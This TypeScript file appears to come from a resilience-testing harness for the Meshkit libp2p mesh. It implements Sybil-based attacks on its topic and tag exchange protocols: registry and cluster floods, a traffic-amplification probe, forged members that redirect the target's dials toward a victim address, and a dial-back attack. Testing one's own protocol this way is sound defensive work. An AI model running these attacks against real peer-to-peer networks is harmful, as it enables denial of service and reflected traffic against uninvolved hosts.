/**
 * Valid-but-hostile messages for Meshkit's member exchange (`/mesh/topics/1.0.0`, plugins/kad-topics) and
 * tag exchange (`/mesh/tags/1.0.0`, plugins/jaccard-clusters): both are one length-prefixed UTF-8 JSON
 * message each way.
 */
import type { Stream } from '@libp2p/interface'
import { type AttackContext, ConnectionKeeper, defineAttack, loops } from '../attack.js'
import { TAGS_PROTOCOL, TOPICS_PROTOCOL } from '../discover.js'
import { type HostileNode, HostilePool } from '../hostile-node.js'
import { forgedPeerIds, longAddr, randomTopicKey } from '../ids.js'
import { closeSoon, hex, json, lp, pause, StreamReader, send } from '../wire.js'

/** Topic-exchange limits (plugins/kad-topics/wire.ts): the most a valid message may carry. */
const MAX_JOINED = 64
const MAX_ADDRS = 16
const MAX_MEMBERS = 32

/** Sends one topics request on a new stream of `node`'s connection; the response's size and JSON. */
async function topicsRequest(
  ctx: AttackContext,
  node: HostileNode,
  request: unknown,
): Promise<{ bytes: number; response?: { joined?: string[]; members?: Record<string, unknown[]> } }> {
  const connection = node.libp2p.getConnections().find((c) => c.remotePeer.toString() === ctx.target.peerId)
  if (!connection) throw new Error('not connected to the target')
  const { stream, reader } = await node.open(connection, TOPICS_PROTOCOL, ctx.tally, ctx.signal)
  try {
    const bytes = lp(json(request))
    await send(stream, bytes, ctx.tally, ctx.signal)
    // read the whole answer, however large (bounded in time and at 64 MiB)
    const answer = await reader.readLp(10_000, ctx.signal)
    if (!answer) return { bytes: reader.length }
    return { bytes: answer.length, response: JSON.parse(new TextDecoder().decode(answer)) }
  } finally {
    await closeSoon(stream)
  }
}

/** `n` addresses of the most allowed length, the first ones a victim sentinel's. */
function stuffedAddrs(victim: string[], n = MAX_ADDRS): string[] {
  return [...victim, ...Array.from({ length: n - victim.length }, () => longAddr(250))].slice(0, n)
}

/**
 * Sybils, each saying it joined 64 topic keys nobody uses, with 16 addresses of ~250 characters (two of
 * them a victim's): the target's member registry takes every key (up to 4096) and member, and evicts by
 * scanning all of them once full.
 */
export const topicsKeyFlood = defineAttack(
  'topics-key-flood',
  'Sybils joining 64 fresh topic keys each, with 16 stuffed addresses (member registry growth + eviction)',
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:topics-key-flood')
    const pool = new HostilePool(ctx.sourceIps)
    try {
      await loops(ctx.scaled(3), ctx.signal, ctx.tally, async () => {
        const node = await pool.spawn()
        try {
          await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          const joined = await Promise.all(Array.from({ length: MAX_JOINED }, () => randomTopicKey()))
          const started = Date.now()
          const { bytes } = await topicsRequest(ctx, node, {
            v: 1,
            joined,
            addrs: stuffedAddrs([victim.tcp, `${victim.tcp}/ws`]),
            short: joined,
          })
          ctx.tally.inc('sybils')
          ctx.tally.inc('keys_claimed', MAX_JOINED)
          ctx.tally.max('max_answer_ms', Date.now() - started)
          ctx.tally.max('max_answer_bytes', bytes)
        } finally {
          await pool.stop(node)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * Amplification: Sybils stuff the same 64 keys with members of 16 maximal addresses, then one peer asks
 * for those 64 keys (a ~4 KiB request) again and again: the answer carries up to 32 members per key with
 * all their addresses. Counts the bytes of the questions and answers (`query_*`).
 */
export const topicsAmplification = defineAttack(
  'topics-amplification',
  'stuff 64 keys via Sybils, then ask for them: answer bytes per request byte',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    const keys = await Promise.all(Array.from({ length: MAX_JOINED }, () => randomTopicKey()))
    const perRound = ctx.scaled(8, 2)
    try {
      const asker = new ConnectionKeeper(ctx, pool)
      while (!ctx.signal.aborted) {
        // a round of stuffers (other attacks may flood the registry meanwhile and evict these keys)
        await Promise.all(
          Array.from({ length: perRound }, async () => {
            const node = await pool.spawn()
            try {
              await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
              await topicsRequest(ctx, node, { v: 1, joined: keys, addrs: stuffedAddrs([]) })
              ctx.tally.inc('stuffers')
            } catch (err) {
              ctx.tally.error(err)
            } finally {
              await pool.stop(node)
            }
          }),
        )
        for (let q = 0; q < 3 && !ctx.signal.aborted; q++) {
          const request = { v: 1, joined: keys, addrs: [] }
          const sent = lp(json(request)).length
          let answer: Awaited<ReturnType<typeof topicsRequest>>
          try {
            await asker.get()
            answer = await topicsRequest(ctx, asker.node!, request)
          } catch (err) {
            // the target refused the asker (its request budget, a ban): a fresh asker next round
            if (ctx.signal.aborted) break
            ctx.tally.inc('queries_refused')
            ctx.tally.error(err)
            await pause(100, ctx.signal)
            continue
          }
          const { bytes, response } = answer
          const members = Object.values(response?.members ?? {}).reduce((n, l) => n + l.length, 0)
          ctx.tally.inc('queries')
          ctx.tally.inc('query_bytes_sent', sent)
          ctx.tally.inc('query_bytes_received', bytes)
          ctx.tally.max('max_answer_bytes', bytes)
          ctx.tally.max('max_members_in_answer', members)
          ctx.tally.max('max_query_amplification', Math.round((bytes / sent) * 10) / 10)
        }
      }
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * Forged members: a hostile peer says it is a member of the target's topic, short of peers, at its own
 * (real) listen address, and hangs up; the target dials it back and asks it for members on that
 * connection (as it also asks every connected non-member while its topic is short): the answer names 32
 * members, each a fresh peer id at a victim's address (marked `short`, which the target prefers).
 * Counts the exchanges the target asked; the victim sentinel counts the dials it made.
 */
export const topicsForgedMembers = defineAttack(
  'topics-forged-members',
  "answer the target's member exchanges with forged members at a victim's address",
  async (ctx) => {
    const key = ctx.target.topicKeys[0]
    if (!key) {
      ctx.tally.note('skipped: the target joined no topic')
      return
    }
    const victim = await ctx.sentinels.open('victim:topics-forged-members')
    const pool = new HostilePool(ctx.sourceIps)
    const answer = async (stream: Stream) => {
      const reader = new StreamReader(stream, ctx.tally)
      try {
        if (!(await reader.readLp(5000, ctx.signal))) return
        const ids = await forgedPeerIds(MAX_MEMBERS)
        const members = ids.map((id) => ({ id: id.toString(), addrs: [victim.tcp], short: true }))
        await send(
          stream,
          lp(json({ v: 1, joined: [key], addrs: [], short: [key], members: { [key]: members } })),
          ctx.tally,
        )
        ctx.tally.inc('exchanges_answered')
        ctx.tally.inc('members_forged', members.length)
      } catch (err) {
        ctx.tally.error(err)
      } finally {
        await closeSoon(stream)
      }
    }
    try {
      await loops(ctx.scaled(3), ctx.signal, ctx.tally, async () => {
        // a real listener: the target dials members it wants, and asks them for members on that connection
        const ip = pool.nextIp()
        const node = await pool.spawn({
          sourceIp: ip,
          listen: [`/ip4/${ip}/tcp/0`],
          handlers: { [TOPICS_PROTOCOL]: (stream) => void answer(stream) },
        })
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          const own = node.libp2p
            .getMultiaddrs()
            .map((a) => a.toString().replace(/\/p2p\/[^/]+$/, ''))
            .filter((a) => a.startsWith(`/ip4/${ip}/`))
          // "I am in your topic and short of peers" (the target then dials us at once), then hang up
          await topicsRequest(ctx, node, { v: 1, joined: [key], addrs: own, short: [key] })
          await connection.close().catch(() => {})
          ctx.tally.inc('members_claimed')
          // while connected (dialled back, or still polled), it asks us for members
          await pause(4000, ctx.signal)
        } finally {
          await pool.stop(node)
        }
      })
      ctx.tally.set('victim_hits', ctx.sentinels.since(0, victim.label).length)
    } finally {
      await pool.stopAll()
    }
  },
)

/** A random tag set of `n` tags (at most 64 characters each). */
const randomTags = (n = 64) => Array.from({ length: n }, () => `t-${hex(between16to60())}`)
const between16to60 = () => 16 + Math.floor(Math.random() * 45)

/**
 * Cluster flood: Sybils send tag messages with a new random set of 64 tags each time (a new stream per
 * message): each set matches no cluster, so the target creates one, and empty clusters stay until
 * `inactiveAfter` (5 min by default).
 */
export const tagsClusterFlood = defineAttack(
  'tags-cluster-flood',
  'a fresh random 64-tag set per message, many Sybils: one new cluster each',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    try {
      await loops(ctx.scaled(4), ctx.signal, ctx.tally, async () => {
        const node = await pool.spawn()
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          for (let i = 0; i < 20 && !ctx.signal.aborted && connection.status === 'open'; i++) {
            const { stream, reader } = await node.open(connection, TAGS_PROTOCOL, ctx.tally, ctx.signal)
            await send(stream, lp(json({ v: 1, tags: randomTags() })), ctx.tally, ctx.signal)
            const answer = await reader.readLp(5000, ctx.signal)
            await closeSoon(stream)
            ctx.tally.inc(answer ? 'tag_sets_accepted' : 'tag_sets_unanswered')
          }
          ctx.tally.inc('sybils')
        } finally {
          await pool.stop(node)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * Sybils claim exactly the target's own tags (so they join its own cluster), announce a sentinel as
 * their address, and leave: the target wants `targetConnectionsPerCluster` members connected and dials
 * them back, with backoff, until they expire (`inactiveAfter`).
 */
export const tagsDialBack = defineAttack(
  'tags-dial-back',
  "Sybils with the target's own tags and a sentinel address, then gone: the target dials them back",
  async (ctx) => {
    if (ctx.target.tags.length === 0) {
      ctx.tally.note('skipped: the target has no tags')
      return
    }
    const home = await ctx.sentinels.open('attacker:tags-dial-back')
    const pool = new HostilePool(ctx.sourceIps)
    let sybils = 0
    try {
      await loops(2, ctx.signal, ctx.tally, async () => {
        if (sybils >= ctx.scaled(20)) {
          await pause(200, ctx.signal)
          return
        }
        sybils++
        const node = await pool.spawn({ announce: [home.tcp] })
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          const { stream, reader } = await node.open(connection, TAGS_PROTOCOL, ctx.tally, ctx.signal)
          await send(stream, lp(json({ v: 1, tags: ctx.target.tags })), ctx.tally, ctx.signal)
          await reader.readLp(5000, ctx.signal)
          await closeSoon(stream)
          ctx.tally.inc('sybils_in_own_cluster')
          await pause(300, ctx.signal)
        } finally {
          await pool.stop(node)
        }
      })
      ctx.tally.set('dials_back_during_attack', ctx.sentinels.since(0, home.label).length)
    } finally {
      await pool.stopAll()
    }
  },
)
